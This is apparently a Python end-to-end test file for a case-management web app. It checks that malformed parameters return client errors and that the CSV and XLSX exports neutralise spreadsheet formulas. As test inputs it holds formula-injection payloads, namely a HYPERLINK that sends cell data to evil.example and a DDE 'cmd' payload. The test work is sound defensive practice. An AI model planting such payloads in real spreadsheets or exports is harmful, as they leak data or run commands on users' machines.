"""End to end, the input findings of issue 11 over real HTTP against the live server: what fuzzing
turned into server errors (Unicode digits passing ``isdigit()``, integers too large for the
database, impossible dates, a tus ``Upload-Length: ²``) is a 4xx with a Chinese message, API errors
are ``{code, message}``; spreadsheet formulas in the public CSV and the roster export are text."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.e2e.test_access_e2e import Http
from tests.e2e.test_numbers_unique_e2e import _decide_on_spot
from yangguang.roster.tests.factories import EntityFactory

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _api_error(status_body: tuple[int, str]) -> tuple[int, str]:
    status, body = status_body
    data = json.loads(body)
    assert set(data) >= {"code", "message"} and "detail" not in data, data
    return status, data["code"]


def test_hostile_parameters_are_refused_not_server_errors(live_server: Any, officer: Any) -> None:
    http = Http(live_server.url, officer)
    for path in ("/cases/?page=%C2%B2", "/cases/?page=%D9%A3", "/cases/?year=9999999999999999999999"):
        status, _ = http.get(path)
        assert status in (200, 400), (path, status)  # a malformed filter is ignored or refused
    assert http.get("/cases/99999999999999999999/")[0] in (403, 404)
    assert _api_error(http.get("/api/cases/99999999999999999999"))[0] in (404, 422)
    assert _api_error(http.get("/api/cases/?page=%C2%B2"))[0] == 422  # ²
    status, _ = _api_error(http.get("/api/workdays/between?start=2026-02-30&end=2026-03-01"))
    assert status == 422
    status, code = _api_error(
        http.call("POST", "/evidence/tus/", b"", {"Tus-Resumable": "1.0.0", "Upload-Length": "²"})
    )
    assert (status, code) == (400, "bad_header")
    assert _api_error(http.get("/api/no-such-endpoint"))[0] == 404


def test_spreadsheet_formulas_stay_text(
    live_server: Any, officer: Any, admin_user: Any, agency: Any, city: Any
) -> None:
    _decide_on_spot(Http(live_server.url, officer), 3)
    agency.name = EVIL
    agency.save(update_fields=["name"])
    status, text = Http(live_server.url).get("/public/open-data/decisions.csv")
    assert status == 200
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 2 and "'" + EVIL in rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)

    EntityFactory(name="=cmd|' /C calc'!A0", region=city, legal_representative="@SUM(1+1)")
    admin = Http(live_server.url, admin_user)
    request_status, _ = admin.get("/roster/export/entities.xlsx")
    assert request_status == 200
    with admin.opener.open(f"{live_server.url}/roster/export/entities.xlsx") as response:
        ws = load_workbook(io.BytesIO(response.read())).active
    assert ws is not None
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for formula in ("=cmd|' /C calc'!A0", "@SUM(1+1)"):
        assert (cells[formula].data_type, cells[formula].quotePrefix) == ("s", True)
